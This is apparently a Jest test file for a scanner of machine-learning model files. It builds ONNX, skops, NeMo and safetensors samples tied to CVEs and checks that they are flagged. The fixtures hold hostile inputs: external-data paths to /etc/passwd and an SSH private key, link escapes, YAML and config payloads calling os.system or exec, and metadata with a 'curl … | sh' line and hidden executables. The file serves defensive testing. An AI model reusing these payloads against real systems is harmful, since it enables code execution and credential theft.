// Rows of shared/notes/corpora.md section 6 for ONNX, skops, NeMo and safetensors, each as a file made here, with the rules of this tree.
import { linkSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { afterEach, beforeEach, describe, expect, it } from '@jest/globals'
import { readCandidates } from '../../../../agent/read/read-candidates.ts'
import { candidateAt } from '../../../../agent/sense/linux/open-path.ts'
import { SKOPS_SCHEMA, buildPickle, tarMember } from '../../../build-pickle.ts'
import { buildOnnx, len, num, onnxNode, onnxTensor } from '../../../build-protobuf.ts'
import { buildSafetensors } from '../../../build-safetensors.ts'
import { linearCheckpoint } from '../../../build-torch-archives.ts'
import { buildZip } from '../../../build-zip.ts'
import { judgeFile } from './judge-file.ts'

const elsewhere = (location: string) => ({ name: 'w', shape: [4], external: { location } })

describe('ONNX external data', () => {
  it.each([
    ['CVE-2022-25882', '../../../etc/passwd', 'external-file-aims-at-system', 'malicious'],
    ['CVE-2024-27318', 'a/../../weights.bin', 'external-file-leaves-folder', 'malformed'],
    ['CVE-2026-27489', '/home/someone/.ssh/id_rsa', 'external-file-aims-at-system', 'malicious'],
    ['CVE-2025-51480', '/opt/weights.bin', 'external-file-leaves-folder', 'malformed'],
    ['CVE-2024-27318', 'C:\\weights.bin', 'external-file-leaves-folder', 'malformed'],
    ['CVE-2024-27318', '..\\weights.bin', 'external-file-leaves-folder', 'malformed'],
    ['CVE-2026-34447', '%2e%2e/weights.bin', 'external-file-leaves-folder', 'suspicious'],
  ])('%s: %s', async (cve, location, threat, verdict) => {
    const judged = await judgeFile('m.onnx', buildOnnx({ tensors: [elsewhere(location)] }))
    expect(judged.verdict).toBe(verdict)
    expect(judged.threats).toContain(threat)
    expect(judged.ids).toContain(cve)
  })

  const inNode = len(5, [len(1, 'value'), len(5, onnxTensor(elsewhere('../w.bin')))])
  const inBranch = len(5, [len(1, 'then'), len(6, len(5, onnxTensor(elsewhere('../w.bin'))))])
  it.each([
    ['an attribute', { nodes: [onnxNode('Constant', { attributes: [inNode.subarray(2)] })] }],
    ['a branch', { nodes: [onnxNode('If', { attributes: [inBranch.subarray(2)] })] }],
    ['a sparse tensor', { graphParts: [len(15, len(1, onnxTensor(elsewhere('../w.bin'))))] }],
    ['training', { modelParts: [len(20, len(1, len(5, onnxTensor(elsewhere('../w.bin')))))] }],
    [
      'a function',
      {
        modelParts: [
          len(25, [len(1, 'f'), len(7, onnxNode('Constant', { attributes: [inNode.subarray(2)] })), len(10, 'own')]),
        ],
      },
    ],
  ])('in %s', async (_, spec) => {
    const judged = await judgeFile('m.onnx', buildOnnx(spec))
    expect(judged.threats).toContain('external-file-leaves-folder')
  })

  it('is clean where the data lies beside it', async () => {
    const judged = await judgeFile('m.onnx', buildOnnx({ tensors: [elsewhere('w.bin')] }), {
      'w.bin': Buffer.alloc(16),
    })
    expect(judged).toMatchObject({ verdict: 'clean', threats: [], isWhole: true })
  })

  describe('with the opener of the agent', () => {
    let folder = ''
    beforeEach(() => {
      folder = mkdtempSync(join(tmpdir(), 'gnomon-onnx-'))
      mkdirSync(join(folder, 'm'))
      writeFileSync(join(folder, 'secret'), Buffer.alloc(16))
      writeFileSync(join(folder, 'm/m.onnx'), buildOnnx({ tensors: [elsewhere('w.bin')] }))
    })
    afterEach(() => rmSync(folder, { recursive: true }))

    async function ways(): Promise<readonly string[]> {
      const candidate = candidateAt(join(folder, 'm/m.onnx'))
      if (!candidate.ok) throw new Error(candidate.failure.detail)
      const how = { deep: false, reportAll: true, signal: new AbortController().signal }
      const names: string[] = []
      for await (const { scan } of readCandidates([candidate.value], how)) {
        names.push(...(scan?.actions ?? []).filter(({ kind }) => kind === 'external-file').map(({ name }) => name))
      }
      return names
    }
    it('CVE-2026-34446: sees a symbolic link', async () => {
      symlinkSync(join(folder, 'secret'), join(folder, 'm/w.bin'))
      expect(await ways()).toEqual(['link'])
    })
    it('CVE-2026-34447: sees a hard link', async () => {
      linkSync(join(folder, 'secret'), join(folder, 'm/w.bin'))
      expect(await ways()).toEqual(['hard-link'])
    })
    it('sees a plain file', async () => {
      writeFileSync(join(folder, 'm/w.bin'), Buffer.alloc(16))
      expect(await ways()).toEqual(['beside'])
    })
  })
})

describe('ONNX operators', () => {
  it.each([
    ['com.microsoft', 'FusedGemm', [], 'clean'],
    ['ai.onnx.ml', 'LinearClassifier', [], 'clean'],
    ['com.microsoft.extensions', 'OpenAIAudioToText', ['graph-calls-services'], 'clean'],
    ['ai.onnx.contrib', 'PyOp', ['graph-runs-python'], 'suspicious'],
    ['custom_domain', 'Anything', ['graph-unknown-operator'], 'suspicious'],
  ])('%s.%s', async (domain, operator, threats, verdict) => {
    const judged = await judgeFile('m.onnx', buildOnnx({ nodes: [onnxNode(operator, { domain }), onnxNode('Relu')] }))
    expect(judged).toMatchObject({ verdict, threats })
  })
  it('knows functions of the model, and those that stand in for standard operators', async () => {
    const fn = (name: string, domain: string) => len(25, [len(1, name), len(7, onnxNode('Relu')), len(10, domain)])
    const nodes = [onnxNode('Mine', { domain: 'own' }), onnxNode('Softmax')]
    expect(await judgeFile('m.onnx', buildOnnx({ nodes, modelParts: [fn('Mine', 'own')] }))).toMatchObject({
      verdict: 'clean',
    })
    const shadowed = await judgeFile('m.onnx', buildOnnx({ nodes, modelParts: [fn('Mine', 'own'), fn('Softmax', '')] }))
    expect(shadowed).toMatchObject({ verdict: 'suspicious', threats: ['graph-shadows-standard'] })
  })
  it('tells program text of its metadata', async () => {
    const entry = len(14, [len(1, 'note'), len(2, "__import__('os').system('id')")])
    expect(await judgeFile('m.onnx', buildOnnx({ modelParts: [entry, num(5, 1)] }))).toMatchObject({
      threats: ['metadata-holds-code'],
    })
  })
})

describe('skops', () => {
  const archive = (node: object) => {
    const schema = { ...(JSON.parse(SKOPS_SCHEMA) as object), content: node }
    return buildZip([{ name: 'schema.json', data: Buffer.from(JSON.stringify(schema)), method: 8 }])
  }
  const node = (loader: string, module: string, name: string, more: object = {}) => ({
    __class__: name,
    __module__: module,
    __loader__: loader,
    ...more,
  })
  it.each([
    ['CVE-2025-54412', node('OperatorFuncNode', 'operator', 'methodcaller'), 'configured-runs-code', 'malicious'],
    [
      'CVE-2025-54413',
      node('MethodNode', 'sklearn.svm', 'SVC', { content: { func: '__reduce__' } }),
      'skops-trusting-loader',
      'suspicious',
    ],
    ['CVE-2024-37065', node('ObjectNode', 'evil', 'Payload'), 'configured-unknown-class', 'suspicious'],
    ['CVE-2024-37065', node('FunctionNode', 'builtins', 'exec'), 'configured-runs-code', 'malicious'],
  ])('%s', async (cve, content, threat, verdict) => {
    const judged = await judgeFile('m.skops', archive(content))
    expect(judged).toMatchObject({ format: 'skops', verdict })
    expect(judged.threats).toContain(threat)
    expect(judged.ids).toContain(cve)
  })
  it('CVE-2025-54886: a pickle of that name', async () => {
    const judged = await judgeFile('m.skops', buildPickle(new Map([['a', 1]])))
    expect(judged.threats).toContain('skops-fallback')
    expect(judged.ids).toContain('CVE-2025-54886')
  })
  it('is clean with estimators only', async () => {
    expect(
      await judgeFile('m.skops', archive(node('ObjectNode', 'sklearn.tree', 'DecisionTreeClassifier'))),
    ).toMatchObject({ verdict: 'clean', threats: [] })
  })
})

describe('NeMo', () => {
  const archive = (config: string, checkpoint = linearCheckpoint()) =>
    Buffer.concat([
      tarMember('./model_config.yaml', Buffer.from(config)),
      tarMember('./model_weights.ckpt', checkpoint),
      Buffer.alloc(1_024),
    ])
  it.each([
    ['in block style', 'a:\n  _target_: os.system\n  _args_: ["id"]\n', 'configured-runs-code'],
    ['in flow style', 'a: {x: 1, _target_: subprocess.run}\n', 'configured-runs-code'],
    ['quoted and escaped', '"\\x5ftarget_": "os\\x2esystem"\n', 'configured-runs-code'],
    ['on the next line', 'a:\n  _target_: >-\n    builtins.exec\n', 'configured-runs-code'],
    ['as a tag', 'a: !!python/object/apply:os.system ["id"]\n', 'yaml-runs-python'],
    ['as a verbatim tag', 'a: !<tag:yaml.org,2002:python/object/apply:os.system> ["id"]\n', 'yaml-runs-python'],
    [
      'behind a handle',
      '%TAG !e! tag:yaml.org,2002:python/\n---\na: !e!object/apply:os.system ["id"]\n',
      'yaml-runs-python',
    ],
  ])('CVE-2025-23304: %s', async (_, config, threat) => {
    const judged = await judgeFile('m.nemo', archive(config))
    expect(judged).toMatchObject({ format: 'nemo', verdict: 'malicious', threats: [threat] })
    expect(judged.ids).toContain('CVE-2025-23304')
  })
  it('CVE-2025-23304: in a packed archive', async () => {
    expect(await judgeFile('m.nemo', gzipSync(archive('_target_: os.system\n')))).toMatchObject({
      verdict: 'malicious',
    })
  })
  it('finds what nobody knows, and nothing in an ordinary one', async () => {
    const plain = 'target: nemo.collections.asr.models.EncDecCTCModel\noptim:\n  _target_: torch.optim.AdamW\n'
    expect(await judgeFile('m.nemo', archive(plain))).toMatchObject({ verdict: 'clean', threats: [] })
    expect(await judgeFile('m.nemo', archive('_target_: my.own.Class\n'))).toMatchObject({
      verdict: 'suspicious',
      threats: ['configured-unknown-class'],
    })
  })
})

describe('safetensors', () => {
  const tensors = [{ name: 'w', dtype: 'F32', shape: [4] }]
  it.each([
    ['a call', { k: "import os; os.system('id')" }, 'metadata-holds-code'],
    ['a command line', { k: 'curl http://example.invalid/x | sh' }, 'metadata-holds-code'],
    ['a script', { k: '<script>fetch(1)</script>' }, 'metadata-holds-code'],
    [
      'an encoded call',
      { k: Buffer.from("import os; os.system('touch /tmp/x')").toString('base64') },
      'metadata-holds-code',
    ],
    [
      'an encoded program',
      { k: Buffer.concat([Buffer.from('\x7fELF'), Buffer.alloc(60, 1)]).toString('base64') },
      'metadata-holds-file',
    ],
  ])('metadata with %s', async (_, metadata, threat) => {
    const judged = await judgeFile('m.safetensors', buildSafetensors({ tensors, metadata }))
    expect(judged.verdict).toBe('suspicious')
    expect(judged.threats).toContain(threat)
  })
  it('is clean with what trainers write', async () => {
    const metadata = {
      format: 'pt',
      'modelspec.architecture': 'stable-diffusion-xl-v1-base/lora',
      'modelspec.thumbnail': `data:image/jpeg;base64,${Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(90, 7)]).toString('base64')}`,
      ss_tag_frequency: '{"10_girl": {"open mouth (smile)": 4, "eval (series)": 1, "import": 2}}',
      ss_optimizer: 'bitsandbytes.optim.adamw.AdamW8bit(weight_decay=0.1)',
      ss_training_comment: 'trained with python train_network.py; see https://example.invalid/a',
    }
    expect(await judgeFile('m.safetensors', buildSafetensors({ tensors, metadata }))).toMatchObject({
      verdict: 'clean',
      threats: [],
    })
  })
  it.each([
    ['behind the last tensor', { trailing: Buffer.from('\x7fELF0123456789abcdef') }, 'hidden-other-file'],
    [
      'in a hole',
      {
        tensors: [{ name: 'w', dtype: 'F32', shape: [4], offsets: [32, 48] as const }],
        data: Buffer.concat([Buffer.from('%PDF-1.7'.padEnd(32)), Buffer.alloc(16)]),
      },
      'hidden-other-file',
    ],
    ['as an archive', { trailing: buildZip([{ name: 'a.txt', data: Buffer.from('a') }]) }, 'hidden-other-file'],
    [
      'as a text written twice',
      {
        header: '{"__metadata__":{"a":"1","a":"2"},"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}',
        data: Buffer.alloc(16),
      },
      'safetensors-doubled-key',
    ],
  ])('tells what lies %s', async (_, spec, threat) => {
    const judged = await judgeFile('m.safetensors', buildSafetensors({ tensors, ...spec }))
    expect(judged.verdict).toBe('malformed')
    expect(judged.threats).toContain(threat)
  })
})
